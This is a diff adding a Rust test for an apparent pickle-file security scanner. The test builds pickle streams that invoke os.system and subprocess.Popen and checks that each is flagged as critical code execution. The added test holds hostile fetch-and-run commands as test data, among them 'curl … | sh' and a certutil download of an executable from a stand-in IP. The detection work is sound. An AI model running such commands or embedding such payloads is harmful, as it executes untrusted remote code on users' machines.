@@ -705,3 +705,34 @@ fn loaders_and_writers_of_other_packages_are_known() {
     assert_eq!(given("package.fetching", "rebuild", "/tmp/cache"), Some(Severity::Medium));
     assert_eq!(given("package.urls", "Url", "https://example.org/x"), Some(Severity::Medium));
 }
+
+#[test]
+fn a_process_that_downloads_is_critical_and_named_as_such() {
+    let listed = |words: &[&str]| {
+        let open = Builder::new().import("subprocess", "Popen").raw(b"](");
+        let all = words.iter().fold(open, |stream, word| stream.text(word));
+        all.raw(b"e\x85R").stop()
+    };
+    reports(
+        &Builder::new().call("os", "system", &["curl http://203.0.113.7/x | sh"]).stop(),
+        "pickle-code-execution",
+        Severity::Critical,
+        "runs `curl`",
+    );
+    let words = ["pip", "install", "git+https://example.org/x"];
+    reports(
+        &listed(&words),
+        "pickle-code-execution",
+        Severity::Critical,
+        "installs a package from an address",
+    );
+    let words = ["certutil.exe", "-urlcache", "-f", "http://203.0.113.7/x", "x.exe"];
+    reports(&listed(&words), "pickle-code-execution", Severity::Critical, "runs `certutil`");
+    reports(
+        &listed(&["git", "clone", "https://example.org/x"]),
+        "pickle-code-execution",
+        Severity::Critical,
+        "repository",
+    );
+    reports(&listed(&["ls", "-l"]), "pickle-code-execution", Severity::Critical, "subprocess.Popen");
+}
